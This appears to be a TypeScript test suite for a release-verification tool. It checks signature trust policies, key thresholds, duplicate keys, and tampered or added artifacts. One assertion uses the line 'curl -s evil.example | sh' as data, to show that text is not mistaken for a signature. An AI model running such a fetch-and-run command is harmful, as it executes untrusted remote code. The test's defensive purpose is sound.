/** Trust: what is proven by whom, what is asked for is there, and nothing unsigned is believed. */
import { generateKeyPairSync, hash } from "node:crypto";
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ed25519Bytes } from "../../src/format/ed25519.ts";
import { bareMinisignKey } from "../../src/format/minisign/public-key.ts";
import { readRelease, type ReleaseArtifact, writeRelease } from "../../src/format/release.ts";
import { sshKeyOf, sshLine } from "../../src/format/ssh/public-key.ts";
import { problemsOf, Problem } from "../../src/model/problem.ts";
import { verifyFolder, type VerifyOptions } from "../../src/verify/folder.ts";
import type { SignatureReader } from "../../src/verify/signatures/kind.ts";
import { openssl } from "../../src/verify/signatures/openssl.ts";
import { signatureReaders } from "../../src/verify/signatures/table.ts";
import { nobody, openTrust, type Trust } from "../../src/verify/trust.ts";
import type { Verdict } from "../../src/verify/verdict.ts";
import { makeRelease } from "../worlds/release.ts";
import { signedBy, signerOf, type TestKey, testKey, testReader, testSignature } from "../worlds/signed.ts";

const home = mkdtempSync(join(tmpdir(), "slipway-trust-"));
afterAll(() => rmSync(home, { recursive: true, force: true }));

const [release, ci, other] = [testKey("release"), testKey("ci"), testKey("other")];
const archive = "tool_linux_amd64.tar.gz";
const readers: readonly SignatureReader[] = [testReader];
let whole = "";
let unsigned = "";
let checksumsOnly = "";

beforeAll(async () => {
  const options = {
    formats: ["tar.gz", "binary"],
    programSize: 100,
    sign: signerOf(release, ci),
    signatureList: "signatures.json",
  };
  const world = async (
    name: string,
    signatures: NonNullable<Parameters<typeof makeRelease>[1]>["signatures"],
  ): Promise<string> => {
    const made = await makeRelease(join(home, name), { ...options, signatures: signatures ?? [] });
    const folder = join(home, name, "1.2.3");
    await made.write(folder);
    return folder;
  };
  whole = await world("whole", [signedBy(release, "checksums", "release", "archive"), signedBy(ci, "release")]);
  unsigned = await world("unsigned", []);
  checksumsOnly = await world("checksums", [signedBy(release, "checksums")]);
});

interface Policy {
  readonly [key: string]: unknown;
}
const keys = { release: { test: release.text }, ci: { test: ci.text }, other: { test: other.text } };
const policy = (change: Policy = {}): Policy => ({
  slipway: 1,
  product: "tool",
  keys,
  require: [{ of: "release", by: ["release"] }],
  ...change,
});

function trusting(change: Policy = {}, among = readers): Promise<Trust> {
  return openTrust({ name: "trust.json", text: JSON.stringify(policy(change)) }, [], among);
}
function given(...texts: readonly string[]): Promise<Trust> {
  return openTrust(
    undefined,
    texts.map((text, index) => ({ name: `key${index}`, text })),
    readers,
  );
}

/** A copy that something was done to. */
function copied(from = whole, change: (path: (name: string) => string) => void = () => {}): string {
  const folder = mkdtempSync(join(home, "c-"));
  cpSync(from, folder, { recursive: true });
  change((name) => join(folder, name));
  return folder;
}

/** release.json says something else, its own digest right again; whoever has the key signs it. */
function restate(
  path: (name: string) => string,
  change: (was: ReturnType<typeof readRelease>) => ReturnType<typeof readRelease>,
  key = other,
): void {
  const text = writeRelease(change(readRelease(readFileSync(path("release.json"), "utf8"), "release.json")));
  writeFileSync(path("release.json"), text);
  for (const name of readdirSync(path(".")).filter((each) => each.startsWith("release.json."))) rmSync(path(name));
  writeFileSync(path(`release.json.${key.name}`), testSignature(key, Buffer.from(text)));
}

const wrong = ({ checks }: Verdict): string[] =>
  checks
    .filter(({ outcome }) => outcome === "failed" || outcome === "unavailable")
    .map(({ check, subject, outcome }) => `${outcome} ${check} ${subject}`);

describe("with a trust file", () => {
  test("a Release that is signed as asked is verified, and each proof says by whom", async () => {
    const trust = await trusting({
      require: [
        { of: "release", by: ["release", "ci"], threshold: 2 },
        { of: "checksums", by: ["release"] },
        { of: "archives", by: ["release", "other"], threshold: 1 },
      ],
      contains: ["index", "checksums"],
      channel: "stable",
    });
    const verdict = await verifyFolder(whole, { trust });
    expect(wrong(verdict)).toEqual([]);
    expect(verdict).toMatchObject({
      outcome: "verified",
      release: { product: "tool" },
      signedBy: [{ name: "ci" }, { name: "release", fingerprint: release.fingerprint }],
    });
    const proofs = verdict.checks.filter(({ check }) => check === "signature");
    expect(proofs.map(({ subject, outcome, by }) => [subject, outcome, by?.name])).toEqual([
      ["release.json.ci", "ok", "ci"],
      ["release.json.release", "ok", "release"],
      ["checksums.txt.release", "ok", "release"],
      [`${archive}.release`, "ok", "release"],
    ]);
    expect(verdict.checks.filter(({ check }) => check === "required")).toHaveLength(5);
    expect(
      verdict.checks.find(({ check, subject }) => check === "list" && subject === "signatures.json")?.outcome,
    ).toBe("ok");
  });

  test.each<readonly [string, Policy, string]>([
    ["another product", { product: "tool2" }, "failed product release.json"],
    ["another channel", { channel: "beta" }, "failed product release.json"],
    ["a key that did not sign", { require: [{ of: "release", by: ["other"] }] }, "failed required release.json"],
    [
      "more keys than signed",
      { require: [{ of: "release", by: ["release", "ci", "other"], threshold: 3 }] },
      "failed required release.json",
    ],
    [
      "one requirement of several that is not met",
      {
        require: [
          { of: "release", by: ["release"] },
          { of: "release", by: ["other"] },
        ],
      },
      "failed required release.json",
    ],
    ["a type that is not there", { contains: ["sboms"] }, "failed required release.json"],
  ])("that asks for %s: invalid, and nothing of the Release is believed", async (_, change, expected) => {
    const verdict = await verifyFolder(whole, { trust: await trusting(change) });
    expect(verdict).toMatchObject({ outcome: "invalid", release: undefined, files: 0 });
    expect(wrong(verdict)).toEqual([expected]);
    expect(verdict.checks.filter(({ check }) => check === "digest" || check === "archive")).toEqual([]);
  });

  test("that asks for signatures of files: each of the type has to be signed, and one has to be there", async () => {
    const binaries = await verifyFolder(whole, {
      trust: await trusting({
        require: [
          { of: "release", by: ["release"] },
          { of: "binaries", by: ["release"] },
        ],
      }),
    });
    expect(wrong(binaries)).toEqual(["failed required tool_darwin_arm64"]);
    const images = await verifyFolder(whole, {
      trust: await trusting({
        require: [
          { of: "release", by: ["release"] },
          { of: "images", by: ["release"] },
        ],
      }),
    });
    expect(wrong(images)).toEqual(["failed required release.json"]);
    const notBy = await verifyFolder(whole, {
      trust: await trusting({
        require: [
          { of: "release", by: ["release"] },
          { of: "archives", by: ["ci"] },
        ],
      }),
    });
    expect(wrong(notBy)).toEqual([`failed required ${archive}`]);
  });

  test("a signature by a key nobody named is skipped, one that claims a trusted key and is not right fails", async () => {
    const byOther = copied(whole, (path) =>
      writeFileSync(path("release.json.x.ci"), testSignature(testKey("x"), readFileSync(path("release.json")))),
    );
    const verdict = await verifyFolder(byOther, { trust: await trusting() });
    expect(verdict.outcome).toBe("verified");
    expect(verdict.checks.find(({ subject }) => subject === "release.json.x.ci")?.outcome).toBe("skipped");
    const wrongly = copied(whole, (path) =>
      writeFileSync(path("release.json.more"), testSignature(ci, Buffer.from("other bytes"))),
    );
    expect(wrong(await verifyFolder(wrongly, { trust: await trusting() }))).toEqual([
      "failed signature release.json.more",
    ]);
  });

  test("a file that only looks like somebody's signature, and is not called like one, is one too many", async () => {
    const script = copied(whole, (path) =>
      writeFileSync(path("release.json.sh"), testSignature(testKey("x"), readFileSync(path("release.json")))),
    );
    expect(wrong(await verifyFolder(script, { trust: await trusting() }))).toEqual(["failed extra release.json.sh"]);
    expect(wrong(await verifyFolder(script, { trust: { ...nobody, readers } }))).toEqual([
      "failed extra release.json.sh",
    ]);
    // Sixty-four bytes may be anything, and text is no signature.
    expect(openssl.isSignature(Buffer.from("curl -s evil.example | sh\n".padEnd(64, "#")))).toBe(false);
  });

  test("what a signed release.json calls its signature is skipped where nothing here can read it", async () => {
    const named = (key: TestKey) =>
      copied(whole, (path) => {
        restate(path, (was) => ({ ...was, signatures: [`release.json.${key.name}`, "release.json.kms"] }), key);
        writeFileSync(path("release.json.kms"), "signed elsewhere");
      });
    const verdict = await verifyFolder(named(release), { trust: await trusting() });
    expect([verdict.outcome, wrong(verdict)]).toEqual(["verified", []]);
    expect(verdict.checks.find(({ subject }) => subject === "release.json.kms")?.outcome).toBe("skipped");
    // Whoever may write release.json, and has no key, calls no file so.
    expect(wrong(await verifyFolder(named(other), { trust: await given(release.text) }))).toContain(
      "failed extra release.json.kms",
    );
  });

  test("two signatures by one key count once", async () => {
    const twice = copied(whole, (path) => {
      rmSync(path("release.json.ci"));
      writeFileSync(path("release.json.again"), testSignature(release, readFileSync(path("release.json"))));
    });
    const trust = await trusting({ require: [{ of: "release", by: ["release", "ci"], threshold: 2 }] });
    expect(wrong(await verifyFolder(twice, { trust }))).toEqual(["failed required release.json"]);
  });

  test("one key under two names is no two keys: such a file is refused where both would be needed", async () => {
    const again = { release: { test: release.text }, twin: { test: release.text } };
    await expect(
      trusting({ keys: again, require: [{ of: "release", by: ["release", "twin"], threshold: 2 }] }),
    ).rejects.toThrow("two are the same");
    const one = await trusting({ keys: again, require: [{ of: "release", by: ["release", "twin"], threshold: 1 }] });
    expect((await verifyFolder(whole, { trust: one })).outcome).toBe("verified");
  });

  test("one secret is one key, also where it signs in three ways", async () => {
    const { publicKey } = generateKeyPairSync("ed25519");
    const ssh = sshKeyOf(publicKey);
    const ways = {
      openssl: publicKey.export({ type: "spki", format: "pem" }).toString(),
      minisign: bareMinisignKey({ id: Buffer.alloc(8), key: ed25519Bytes(publicKey) }),
      ssh: sshLine(ssh),
    };
    const opened = (threshold: number) =>
      trusting(
        {
          keys: Object.fromEntries(Object.entries(ways).map(([method, text]) => [method, { [method]: text }])),
          require: [{ of: "release", by: Object.keys(ways), threshold }],
        },
        signatureReaders,
      );
    await expect(opened(2)).rejects.toThrow("two are the same");
    expect((await opened(1)).keys).toHaveLength(3);
  });

  test.each<readonly [string, Policy]>([
    ["a damaged key", { keys: { release: { test: "test-key AAAA" } } }],
    ["a key of a kind nobody knows", { keys: { release: { rot13: "x" } } }],
    ["an identity where nothing knows any", { identities: { gh: { issuer: "i", subject: "s", trustedRoot: {} } } }],
    ["TUF metadata", { root: { signed: {} } }],
  ])("that holds %s is not used without it", async (_, change) => {
    await expect(trusting(change)).rejects.toSatisfy((thrown) => problemsOf(thrown) !== undefined);
  });

  test("another Release, signed by another key or by none, is invalid and nothing of it is said", async () => {
    const evil = copied(whole, (path) => restate(path, (was) => ({ ...was, version: "9.9.9" })));
    expect(
      await verifyFolder(evil, { trust: await trusting({ keys: { release: { test: release.text } } }) }),
    ).toMatchObject({ outcome: "invalid", release: undefined, signedBy: [] });
    expect(await verifyFolder(unsigned, { trust: await trusting() })).toMatchObject({
      outcome: "invalid",
      release: undefined,
    });
    // A validly signed release of another product.
    const theirs = copied(whole, (path) => restate(path, (was) => ({ ...was, product: "app-b" }), release));
    expect(wrong(await verifyFolder(theirs, { trust: await trusting() }))).toEqual(["failed product release.json"]);
  });

  test.each<readonly [string, SignatureReader["check"], Verdict["outcome"]]>([
    [
      "cannot decide",
      async () => Promise.reject(new Problem("verify.unavailable", "no time stamp authority")),
      "unavailable",
    ],
    ["says that it is wrong", async () => ({ outcome: "failed", detail: "no" }), "invalid"],
    [
      "brings a key of its own",
      async () => ({
        outcome: "ok",
        by: { name: "release", method: "test", fingerprint: release.fingerprint },
        detail: "",
      }),
      "invalid",
    ],
  ])("a reader that %s never verifies", async (_, check, outcome) => {
    const trust = await trusting({}, [{ ...testReader, check }]);
    expect(await verifyFolder(whole, { trust })).toMatchObject({ outcome, release: undefined });
  });

  test("a reader with a defect is thrown, and no verdict", async () => {
    const broken = { ...testReader, check: async () => Promise.reject(new TypeError("defect")) } as SignatureReader;
    await expect(verifyFolder(whole, { trust: await trusting({}, [broken]) })).rejects.toThrow("defect");
  });
});

describe("with keys alone", () => {
  test("a list that is another one each time it is read is not the one that was signed", async () => {
    const folder = copied(checksumsOnly);
    const list = join(folder, "checksums.txt");
    const signed = readFileSync(list);
    let asked = 0;
    // What a disk of somebody else's serves: the signed bytes to whoever checks the right signature, others before and after.
    const swapping: SignatureReader = {
      ...testReader,
      async check(signature, file, keys) {
        if (file.name !== "checksums.txt") return testReader.check(signature, file, keys as never);
        asked += 1;
        if (asked === 1) for await (const _ of file.open());
        const now = readFileSync(list);
        writeFileSync(list, signed);
        return testReader.check(signature, file, keys as never).finally(() => writeFileSync(list, now));
      },
    };
    const evil = Buffer.from("evil");
    const added = { name: "evil", type: "file", size: evil.length, digests: { sha256: hash("sha256", evil) } } as const;
    writeFileSync(join(folder, "evil"), evil);
    const theirs = testSignature(other, signed);
    const name = "checksums.txt.a.release";
    writeFileSync(join(folder, name), theirs);
    const signature = { name, type: "signature", size: theirs.length, subject: "checksums.txt" } as const;
    writeFileSync(list, `${signed.toString().trimEnd()}\n`.replace(/^/, `${added.digests.sha256}  evil\n`));
    const text = readFileSync(list);
    restate(
      (name) => join(folder, name),
      (was) => {
        const digests = { sha256: hash("sha256", text) };
        const artifacts = was.artifacts.map((each) =>
          each.name === "checksums.txt" ? { ...each, digests, size: text.length } : each,
        );
        const more = [added, { ...signature, digests: { sha256: hash("sha256", theirs) } }];
        return { ...was, artifacts: [...artifacts, ...more] };
      },
    );
    const trust = await openTrust(undefined, [{ name: "key", text: release.text }], [swapping]);
    const verdict = await verifyFolder(folder, { trust });
    expect(verdict.outcome).toBe("invalid");
    expect(verdict.checks).toContainEqual({
      check: "signature",
      subject: "checksums.txt.release",
      outcome: "failed",
      detail: "it changed while it was read",
    });
  });

  test("each has to have signed release.json", async () => {
    expect(await verifyFolder(whole, { trust: await given(release.text, ci.text) })).toMatchObject({
      outcome: "verified",
      signedBy: [{ name: "key1" }, { name: "key0" }],
    });
    expect(wrong(await verifyFolder(whole, { trust: await given(release.text, other.text) }))).toEqual([
      "failed required release.json",
    ]);
    expect(wrong(await verifyFolder(unsigned, { trust: await given(release.text) }))).toEqual([
      "failed required release.json",
    ]);
  });

  test("or the checksums, which cover all but the notes; then product and version are nobody's word", async () => {
    const verdict = await verifyFolder(checksumsOnly, { trust: await given(release.text) });
    expect(verdict).toMatchObject({ outcome: "verified", signedBy: [] });
    expect(
      verdict.checks.filter(({ check }) => check === "required").map(({ subject, outcome }) => [subject, outcome]),
    ).toEqual([
      ["checksums.txt", "ok"],
      ["notes.md", "skipped"],
    ]);
  });

  test.each<readonly [string, Partial<ReleaseArtifact>]>([
    ["a file like any other", { type: "file" }],
    ["a signature nobody can read", { type: "signature", subject: archive }],
  ])("a file that somebody added as %s is not taken for verified", async (_, as) => {
    const bytes = Buffer.from("evil");
    const folder = copied(checksumsOnly, (path) => {
      const added = {
        name: "evil",
        size: bytes.length,
        digests: { sha256: hash("sha256", bytes) },
        ...as,
      } as ReleaseArtifact;
      writeFileSync(path("evil"), bytes);
      restate(path, (was) => ({ ...was, artifacts: [...was.artifacts, added] }));
    });
    const { outcome, checks } = await verifyFolder(folder, { trust: await given(release.text) });
    expect(outcome).not.toBe("verified");
    expect(checks.filter((check) => check.outcome !== "ok").map(({ subject }) => subject)).toContain(
      as.type === "file" ? "checksums.txt" : "evil",
    );
  });

  test("what is no key, or none that is known, is refused", async () => {
    await expect(given("ssh-rsa AAAA")).rejects.toThrow("no public key");
  });
});

describe("without keys", () => {
  const options = async (more: VerifyOptions = {}): Promise<VerifyOptions> => ({
    trust: { ...nobody, readers },
    ...more,
  });

  test("signatures are seen, skipped, and prove nothing", async () => {
    const verdict = await verifyFolder(whole, await options());
    expect(verdict).toMatchObject({ outcome: "verified", signedBy: [] });
    const seen = verdict.checks.filter(({ check }) => check === "signature");
    expect(seen.map(({ outcome }) => outcome)).toEqual(["skipped", "skipped", "skipped", "skipped"]);
  });

  test("where signatures are required: invalid without any, else undecided", async () => {
    expect((await verifyFolder(unsigned, await options({ requireSignatures: true }))).outcome).toBe("invalid");
    expect((await verifyFolder(whole, await options({ requireSignatures: true }))).outcome).toBe("unavailable");
  });

  test("a file beside release.json that is no signature is one too many", async () => {
    const more = copied(whole, (path) => writeFileSync(path("release.json.bak"), "x"));
    expect(wrong(await verifyFolder(more, await options()))).toEqual(["failed extra release.json.bak"]);
  });
});
